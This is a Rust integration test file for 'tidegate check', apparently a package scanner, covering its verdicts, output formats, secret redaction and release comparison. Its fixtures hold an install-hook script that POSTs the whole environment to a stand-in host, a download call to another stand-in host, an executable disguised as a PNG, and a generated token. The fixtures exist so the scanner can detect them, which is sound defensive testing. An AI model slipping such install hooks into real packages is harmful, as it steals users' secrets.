//! `tidegate check` on files and folders: what is in them, in every form of output, without a door and with one.

use std::fs;
use std::io::Write as _;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use serde_json::{Value, json};
use tidegate_testkit::package::PythonForms;
use tidegate_testkit::process::{Finished, Home, Program};
use tidegate_testkit::validators::{Standard, Validators};
use tidegate_testkit::{Package, tools};

const PROGRAM: &str = env!("CARGO_BIN_EXE_tidegate");

/// A program under the name of a picture.
fn disguised() -> Vec<u8> {
    let mut elf = b"\x7fELF\x02\x01\x01".to_vec();
    elf.resize(400, 0);
    elf
}

/// A token of an issuer, made here so that none stands in the repository.
fn token() -> String {
    let mut state = 7_u64;
    let letters = b"ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz23456789";
    let draw = || {
        state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        char::from(letters[(state >> 33) as usize % letters.len()])
    };
    let body: String = std::iter::repeat_with(draw).take(36).collect();
    format!("{}_{body}", ["gh", "p"].concat())
}

/// Sends the environment away while it is installed; the host does not exist.
const STEALS: &str = "const https = require('https');\nconst body = JSON.stringify(process.env);\nconst sent = https.request({ host: 'collect.invalid', method: 'POST' });\nsent.write(body);\nsent.end();\n";

fn bare(version: &str) -> Package {
    Package::npm("beta-of-test", version)
}

fn built(home: &Home, package: &Package) -> PathBuf {
    let file = package.build().remove(0);
    let path = home.path().join(&file.name);
    fs::write(&path, &file.bytes).unwrap();
    path
}

fn check(home: &Home, arguments: &[&str]) -> Finished {
    program(home, arguments).run()
}

fn program(home: &Home, arguments: &[&str]) -> Program {
    Program::new(PROGRAM, home).args(["check", "--offline"]).args(arguments).env("NO_COLOR", "1")
}

fn json_of(done: &Finished) -> Value {
    assert_eq!(done.stdout.lines().count(), 1, "{}", done.output());
    serde_json::from_str(&done.stdout).unwrap()
}

fn named(path: &Path) -> &str {
    path.file_name().unwrap().to_str().unwrap()
}

fn detectors(line: &Value) -> Vec<&str> {
    line["findings"].as_array().unwrap().iter().map(|f| f["detector"].as_str().unwrap()).collect()
}

#[test]
fn an_archive_is_looked_into_and_decided_on() {
    let home = Home::new();
    let clean = built(&home, &Package::npm("alpha-of-test", "1.0.0"));
    let done = check(&home, &["--json", named(&clean)]);
    assert_eq!(done.code(), Some(0), "{}", done.output());
    let line = json_of(&done);
    assert_eq!(line["artifact"]["purl"], "pkg:npm/alpha-of-test@1.0.0");
    assert_eq!((&line["artifact"]["kind"], &line["verdict"]["is"]), (&json!("package"), &json!("clean")));
    assert_eq!(line["licences"]["concluded"], "MIT");

    let bad = built(&home, &bare("1.0.0").file("assets/logo.png", disguised()));
    let done = check(&home, &[named(&bad)]);
    assert_eq!(done.code(), Some(3), "{}", done.output());
    let told = &done.stdout;
    assert!(told.starts_with("quarantine beta-of-test-1.0.0.tgz (pkg:npm/beta-of-test@1.0.0)"), "{told}");
    assert!(told.contains("contents-suspicious") && told.contains("archive/type-mismatch"), "{told}");
    assert!(told.contains("beta-of-test-1.0.0.tgz!/package/assets/logo.png"), "{told}");
    assert!(told.contains("why: ") && told.contains("what to do: Look at what uses the file."), "{told}");

    let steals = bare("1.0.1").runs_on_install("node steal.js").file("steal.js", STEALS);
    let steals = built(&home, &steals);
    let done = check(&home, &["--json", named(&steals)]);
    assert_eq!(done.code(), Some(4), "{}", done.output());
    let line = json_of(&done);
    assert_eq!(line["decision"]["reasons"][0]["rule"], "contents-malicious", "{line:#}");
    assert_eq!(line["install_script"], true);
    let theft = line["findings"].as_array().unwrap().iter().find(|f| f["severity"] == "critical").unwrap();
    assert!(theft["location"]["path"].as_str().unwrap().ends_with("package/steal.js"), "{theft}");
    assert!(theft["location"]["line"].as_u64().unwrap() > 1, "{theft}");
    // Another policy decides otherwise.
    assert_eq!(check(&home, &["--policy", "observe", named(&bad)]).code(), Some(0));
    // Several inputs of several kinds: the worst counts.
    let all = check(&home, &["--json", named(&clean), named(&bad), "pkg:npm/alpha-of-test@1.0.0"]);
    assert_eq!((all.code(), all.stdout.lines().count()), (Some(3), 3), "{}", all.output());
}

#[test]
fn the_line_of_json_keeps_its_shape() {
    let home = Home::new();
    let package = Package::npm("gamma-of-test", "2.0.0")
        .file("assets/logo.png", disguised())
        .file("node_modules/leaf/package.json", r#"{"name":"leaf","version":"0.1.0","license":"ISC"}"#)
        .file("broken.zip", &b"PK\x03\x04 and no more"[..]);
    let file = built(&home, &package);
    let mut line = json_of(&check(&home, &["--json", named(&file)]));
    // What is about the policy is pinned elsewhere; its gaps name what no bytes tell.
    line["decision"] = json!({ "action": line["decision"]["action"] });
    line["gaps"]
        .as_array_mut()
        .unwrap()
        .retain(|gap| gap["fact"] == "contents" || gap["fact"] == "components");
    line["looked_at"]["inspector"] = json!("N");
    insta::assert_snapshot!(serde_json::to_string_pretty(&line).unwrap());
}

#[test]
fn a_secret_is_told_and_never_shown() {
    let home = Home::new();
    let token = token();
    let text = format!("[service]\nname = x\ntoken = {token}\n");
    let wheel =
        built(&home, &Package::pypi("delta-of-test", "1.0.0").file("delta/settings.ini", text.clone()));
    let sarif = home.path().join("out.sarif");
    let forms = [
        check(&home, &[named(&wheel)]),
        check(&home, &["--all", named(&wheel)]),
        check(&home, &["--json", named(&wheel)]),
        check(&home, &["--format", "sarif", "--output", sarif.to_str().unwrap(), named(&wheel)]),
        check(&home, &["--format", "cyclonedx", named(&wheel)]),
    ];
    for done in &forms {
        assert_eq!(done.code(), Some(0), "{}", done.output());
        assert!(!done.output().contains(&token[6..]), "the value is shown:\n{}", done.output());
    }
    assert!(!fs::read_to_string(&sarif).unwrap().contains(&token[6..]));
    let line = json_of(&forms[2]);
    let secret = line["findings"].as_array().unwrap().iter().find(|f| f["kind"] == "secret").unwrap();
    assert_eq!((&secret["location"]["line"], &secret["secret_hash"]), (&json!(3), &Value::Null), "{secret}");
    assert!(secret["detector"].as_str().unwrap().starts_with("secrets/github"), "{secret}");
    assert_eq!(line["decision"]["action"], "warn");
    assert!(forms[0].stdout.contains("settings.ini:3: "), "{}", forms[0].stdout);
    // The same value in a plain file, which is no archive at all.
    fs::write(home.path().join("settings.ini"), text).unwrap();
    let line = json_of(&check(&home, &["--json", "settings.ini"]));
    assert_eq!((&line["artifact"]["kind"], &line["artifact"]["purl"]), (&json!("file"), &Value::Null));
    assert!(detectors(&line).iter().any(|id| id.starts_with("secrets/github")), "{line:#}");
}

#[test]
fn a_folder_is_looked_into_as_the_package_that_it_is() {
    let home = Home::new();
    let outside = home.folder("outside");
    fs::write(outside.join("settings.ini"), format!("token = {}\n", token())).unwrap();
    let folder = home.folder("work/epsilon");
    let manifest = r#"{"name":"epsilon-of-test","version":"0.3.0","license":"MIT","scripts":{"postinstall":"node steal.js"}}"#;
    fs::write(folder.join("package.json"), manifest).unwrap();
    fs::write(folder.join("steal.js"), STEALS).unwrap();
    std::os::unix::fs::symlink(&outside, folder.join("away")).unwrap();
    let done = check(&home, &["--json", "work/epsilon"]);
    assert_eq!(done.code(), Some(4), "{}", done.output());
    let line = json_of(&done);
    assert_eq!(line["artifact"]["purl"], "pkg:npm/epsilon-of-test@0.3.0");
    assert_eq!(line["artifact"]["sha256"], Value::Null, "a folder has no digest");
    let theft = line["findings"].as_array().unwrap().iter().find(|f| f["severity"] == "critical").unwrap();
    assert_eq!(theft["location"]["path"], "epsilon/steal.js");
    assert!(!detectors(&line).iter().any(|id| id.starts_with("secrets/")), "the link was followed: {line:#}");
    let gap = line["gaps"].as_array().unwrap().iter().find(|gap| gap["kind"] == "link_outside").unwrap();
    assert_eq!(gap["path"], "epsilon/away");
    // From within, and what viewers are led to.
    let sarif = program(&home, &["--format", "sarif", "."]).in_folder(&folder).run();
    let sarif: Value = serde_json::from_str(&sarif.stdout).unwrap();
    let results = sarif["runs"][0]["results"].as_array().unwrap();
    let at = results.iter().map(|r| &r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]);
    assert!(at.into_iter().any(|uri| uri == "steal.js"), "{sarif:#}");
    // A folder with nothing in it says nothing of anything.
    home.folder("empty");
    let done = check(&home, &["empty"]);
    assert_eq!(done.code(), Some(1));
    assert!(done.stderr.contains("`empty` is empty"), "{}", done.stderr);
}

#[test]
fn a_release_is_set_beside_an_earlier_one() {
    let home = Home::new();
    let before = built(&home, &bare("1.0.0").file("lib/a.js", "module.exports = () => 1;\n"));
    let gains = bare("1.0.1").file("lib/a.js", "module.exports = () => 1;\n");
    let gains = built(
        &home,
        &gains.runs_on_install("node get.js").file(
            "get.js",
            "require('https').get('https://files.invalid/x', (r) => r.pipe(process.stdout));\n",
        ),
    );
    let done = check(&home, &["--previous", named(&before), named(&gains)]);
    assert!(done.stdout.contains("compared with beta-of-test-1.0.0.tgz (1.0.0): "), "{}", done.stdout);
    assert!(done.stdout.contains("behaviour/diff-capability"), "{}", done.stdout);
    assert_eq!(done.code(), Some(3), "{}", done.output());
    let line = json_of(&check(&home, &["--json", "--previous", named(&before), named(&gains)]));
    assert_eq!((&line["compared"]["version"], &line["compared"]["why_not"]), (&json!("1.0.0"), &Value::Null));
    assert!(line["compared"]["new"].as_u64().unwrap() > 0);
    assert_eq!(line["verdict"]["is"], "clean", "the release alone is nothing to hold: {line:#}");
    let same = check(&home, &["--previous", named(&before), named(&before)]);
    assert_eq!(same.code(), Some(0), "{}", same.output());
    assert!(same.stdout.contains("it can do nothing that this could not"), "{}", same.stdout);
    let other = built(&home, &Package::npm("zeta-of-test", "1.0.0"));
    let done = check(&home, &["--previous", named(&other), named(&before)]);
    assert!(done.stdout.contains("that is another package, zeta-of-test"), "{}", done.stdout);
    let missing = check(&home, &["--previous", "missing.tgz", named(&before)]);
    assert_eq!(missing.code(), Some(1));
    assert!(missing.stderr.contains("the earlier version: `missing.tgz`"), "{}", missing.stderr);
    for wrong in [&["--previous", "x", "pkg:npm/a@1.0.0"][..], &["--previous", "x", "a", "b"]] {
        assert_eq!(check(&home, wrong).code(), Some(2), "{wrong:?}");
    }
}

#[test]
fn standard_input_brings_an_archive_or_lines() {
    let home = Home::new();
    let bad = built(&home, &bare("1.0.0").file("assets/logo.png", disguised()));
    let fed = |arguments: &[&str], bytes: &[u8]| {
        let mut child = Command::new(PROGRAM)
            .args(["check", "--offline"])
            .args(arguments)
            .env_clear()
            .envs(home.environment())
            .current_dir(home.path())
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        child.stdin.take().unwrap().write_all(bytes).unwrap();
        let output = child.wait_with_output().unwrap();
        (output.status.code(), String::from_utf8(output.stdout).unwrap())
    };
    let (code, told) = fed(&["--json", "-"], &fs::read(&bad).unwrap());
    let line: Value = serde_json::from_str(&told).unwrap();
    assert_eq!((code, &line["input"]), (Some(3), &json!("-")));
    assert_eq!(line["artifact"]["purl"], "pkg:npm/beta-of-test@1.0.0");
    let (code, told) = fed(&["--json", "-"], format!("{}\npkg:npm/a@1.0.0\n", named(&bad)).as_bytes());
    assert_eq!((code, told.lines().count()), (Some(3), 2), "{told}");
    let (code, _) = fed(&["--format", "sarif", "-"], b"pkg:npm/a@1.0.0\n");
    assert_eq!(code, Some(2));
}

#[test]
fn what_cannot_be_looked_into_says_why() {
    let home = Home::new();
    fs::write(home.path().join("nothing.whl"), "").unwrap();
    fs::write(home.path().join("notes.txt"), "hello\n").unwrap();
    fs::write(home.path().join("cut.tgz"), &fs::read(built(&home, &bare("1.0.0"))).unwrap()[..90]).unwrap();
    for (given, expected) in [
        ("missing.tgz", "there is no such file"),
        ("nothing.whl", "`nothing.whl` is empty"),
        ("/dev/zero", "is a device"),
    ] {
        let done = check(&home, &[given]);
        assert_eq!((done.code(), done.stdout.as_str()), (Some(1), ""), "{}", done.output());
        assert!(done.stderr.contains(expected), "{given}: {}", done.stderr);
        let line = json_of(&check(&home, &["--json", given]));
        assert_eq!((&line["error"]["code"], &line["schema"]), (&json!("bad_input"), &json!(1)));
    }
    let secret = home.path().join("locked.tgz");
    fs::write(&secret, "x").unwrap();
    fs::set_permissions(&secret, std::os::unix::fs::PermissionsExt::from_mode(0o000)).unwrap();
    if fs::File::open(&secret).is_err() {
        let done = check(&home, &["locked.tgz"]);
        assert_eq!(done.code(), Some(1));
        assert!(done.stderr.contains("`locked.tgz` cannot be read"), "{}", done.stderr);
    } else {
        eprintln!("SKIPPED: whoever runs this test may read every file");
    }
    // No archive is no error: it is one file, and looked at.
    let line = json_of(&check(&home, &["--json", "notes.txt"]));
    assert_eq!((&line["artifact"]["kind"], &line["looked_at"]["parts"]), (&json!("file"), &json!(1)));
    // What breaks off is a gap with a name, and warned of.
    let done = check(&home, &["--json", "cut.tgz"]);
    let line = json_of(&done);
    assert_eq!((done.code(), &line["decision"]["action"]), (Some(0), &json!("warn")), "{line:#}");
    let gap = line["gaps"].as_array().unwrap().iter().find(|gap| gap["fact"] == "contents").unwrap();
    assert!(gap["kind"].is_string() && gap["path"].as_str().unwrap().starts_with("cut.tgz"), "{gap}");
    let told = check(&home, &["cut.tgz"]).stdout;
    assert!(told.contains("not looked at: 1 part"), "{told}");
}

#[test]
fn other_programs_read_what_is_written_of_files() {
    let home = Home::new();
    let package = bare("1.0.0")
        .runs_on_install("node steal.js")
        .file("steal.js", STEALS)
        .file("assets/logo.png", disguised())
        .file("settings.ini", format!("token = {}\n", token()))
        .file("node_modules/leaf/package.json", r#"{"name":"leaf","version":"0.1.0","license":"ISC"}"#);
    let file = built(&home, &package);
    let document = |format: &str| check(&home, &["--format", format, named(&file)]).stdout;
    let sarif: Value = serde_json::from_str(&document("sarif")).unwrap();
    let run = &sarif["runs"][0];
    let rules = run["tool"]["driver"]["rules"].as_array().unwrap();
    for result in run["results"].as_array().unwrap() {
        let rule = &rules[result["ruleIndex"].as_u64().unwrap() as usize];
        assert_eq!(rule["id"], result["ruleId"]);
        if rule["id"].as_str().unwrap().starts_with("policy/") {
            continue;
        }
        assert!(rule["help"]["markdown"].as_str().unwrap().contains("**What to do:**"), "{rule:#}");
        assert!(result["partialFingerprints"]["tidegate/v1"].is_string(), "{result:#}");
        // The artifact that a result is in is the one that its index names, within the file that was given.
        let place = &result["locations"][0]["physicalLocation"]["artifactLocation"];
        let artifacts = run["artifacts"].as_array().unwrap();
        let mut artifact = &artifacts[place["index"].as_u64().unwrap() as usize];
        assert_eq!(artifact["location"]["uri"], place["uri"]);
        while let Some(parent) = artifact["parentIndex"].as_u64() {
            artifact = &artifacts[parent as usize];
        }
        assert_eq!(artifact["location"]["uri"], "beta-of-test-1.0.0.tgz");
    }
    let ids: Vec<&str> = rules.iter().map(|rule| rule["id"].as_str().unwrap()).collect();
    for family in ["archive/", "behaviour/", "secrets/"] {
        assert!(ids.iter().any(|id| id.starts_with(family)), "{ids:?}");
    }
    // A run again says the same, and fingerprints do not depend on what stands above a finding.
    let prints = |sarif: &Value| -> Vec<String> {
        let all = sarif["runs"][0]["results"].as_array().unwrap().iter();
        all.map(|result| result["partialFingerprints"]["tidegate/v1"].to_string()).collect()
    };
    let again: Value = serde_json::from_str(&document("sarif")).unwrap();
    assert_eq!(prints(&sarif), prints(&again));
    let bom: Value = serde_json::from_str(&document("cyclonedx")).unwrap();
    let components = bom["components"].as_array().unwrap();
    assert!(components.iter().any(|one| one["purl"] == "pkg:npm/leaf@0.1.0"), "{bom:#}");
    let Some(validators) = Validators::install() else {
        eprintln!("SKIPPED: the validators of CycloneDX and SARIF cannot be installed here (no network?)");
        return;
    };
    for (standard, text) in [
        (Standard::Sarif, sarif.to_string()),
        (Standard::CycloneDx("1.6"), bom.to_string()),
        (Standard::CycloneDx("1.7"), document("cyclonedx-1.7")),
    ] {
        validators.judge(standard, &text).unwrap_or_else(|said| panic!("{standard:?}: {said}"));
    }
}

#[test]
fn what_package_managers_pack_is_recognised() {
    let home = Home::new();
    let mut seen = 0;
    if let Some(npm) = tools::npm() {
        let folder = home.folder("packed");
        let manifest =
            r#"{"name":"@acme/eta-of-test","version":"4.5.6","license":"Apache-2.0","main":"index.js"}"#;
        fs::write(folder.join("package.json"), manifest).unwrap();
        fs::write(folder.join("index.js"), "module.exports = 1;\n").unwrap();
        npm.called_by(&home).args(["pack", "--offline"]).in_folder(&folder).run().expect_success();
        let line = json_of(&check(&home, &["--json", "packed/acme-eta-of-test-4.5.6.tgz"]));
        assert_eq!(line["artifact"]["purl"], "pkg:npm/%40acme/eta-of-test@4.5.6");
        assert_eq!(line["licences"]["concluded"], "Apache-2.0");
        seen += 1;
    }
    for (forms, ending) in [(PythonForms::Wheel, ".whl"), (PythonForms::Sdist, ".tar.gz")] {
        let file = built(&home, &Package::pypi("theta-of-test", "1.2").forms(forms));
        assert!(named(&file).ends_with(ending));
        let line = json_of(&check(&home, &["--json", named(&file)]));
        assert_eq!(line["artifact"]["purl"], "pkg:pypi/theta-of-test@1.2", "{line:#}");
        seen += 1;
    }
    let file = built(&home, &Package::cargo("iota-of-test", "0.2.0"));
    let line = json_of(&check(&home, &["--json", named(&file)]));
    assert_eq!(line["artifact"]["purl"], "pkg:cargo/iota-of-test@0.2.0");
    assert!(seen >= 2);
}
